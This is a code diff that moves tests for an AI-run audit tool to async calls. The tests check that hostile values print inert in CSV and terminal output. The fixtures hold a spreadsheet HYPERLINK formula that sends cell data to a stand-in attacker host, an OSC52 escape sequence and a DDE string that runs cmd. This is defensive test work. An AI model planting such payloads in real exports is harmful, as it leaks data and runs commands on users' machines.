@@ -41,13 +41,13 @@ const MODEL = `=HYPERLINK("http://evil.example/?"&A1,"ok")${OSC52}`;
 const RUN = 'hostile-run';
 
 /** A stored run whose model name, prompt id and topic are hostile (a provider or a suite file chose them). */
-function hostileRun(path: string): void {
-  const store = openAuditStore(path);
+async function hostileRun(path: string): Promise<void> {
+  const store = await openAuditStore(path);
   const config: RunConfig = { baseUrl: 'http://127.0.0.1:9/v1', apiKeyEnv: null, temperature: null, maxTokens: null, system: null, stream: false, concurrency: 1, rpm: null, timeoutMs: 1000, retries: 0 };
   const requests: PlannedRequest[] = ['en', 'zh'].map((lang) => ({ model: MODEL, promptId: `p${HOSTILE}`, topic: `@SUM(1+1)*cmd|' /C calc'!A0`, style: 'neutral', lang, sample: 1, prompt: 'Q', expects: [] }));
-  createRun(store, { id: RUN, suite: 'hostile', suiteFile: 'hostile.yaml', models: [MODEL], langs: ['en', 'zh'], samples: 1, config }, requests);
+  await createRun(store, { id: RUN, suite: 'hostile', suiteFile: 'hostile.yaml', models: [MODEL], langs: ['en', 'zh'], samples: 1, config }, requests);
   const write = auditWriter(store, 0);
-  const ids = store.prepare('SELECT id FROM audit_requests WHERE run = ? ORDER BY id').all(RUN) as { id: number }[];
+  const ids = store.sqlite!.prepare('SELECT id FROM audit_requests WHERE run = ? ORDER BY id').all(RUN) as { id: number }[];
   ids.forEach(({ id }, i) =>
     write.result({
       request: id, run: RUN, outcome: i ? 'refusal' : 'state_echo', verdict: null, reason: null, answer: `answer ${HOSTILE}`, reasoning: null, findings: null,
@@ -55,8 +55,8 @@ function hostileRun(path: string): void {
       latencyMs: 1, tokensIn: 1, tokensOut: 1, cost: null, attempts: 1, error: null,
     }),
   );
-  write.status(RUN, 'done');
-  store.close();
+  await write.status(RUN, 'done');
+  await store.close();
 }
 
 describe('terminal-safe text', () => {
@@ -154,11 +154,11 @@ describe('results, analyze and trace print hostile values inert', () => {
     expect(outputs.resultsCsv.stdout).toContain(`'@SUM(1+1)`);
   });
 
-  it('CSV from the library is neutralised too, whatever the caller prints', () => {
-    const store = openAuditStore(db);
-    const csv = summaryCsv(summarizeRun(store, RUN));
-    const text = summaryText(summarizeRun(store, RUN));
-    store.close();
+  it('CSV from the library is neutralised too, whatever the caller prints', async () => {
+    const store = await openAuditStore(db);
+    const csv = summaryCsv(await summarizeRun(store, RUN));
+    const text = summaryText(await summarizeRun(store, RUN));
+    await store.close();
     expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
     expect(text).not.toMatch(RAW_CONTROL);
   });
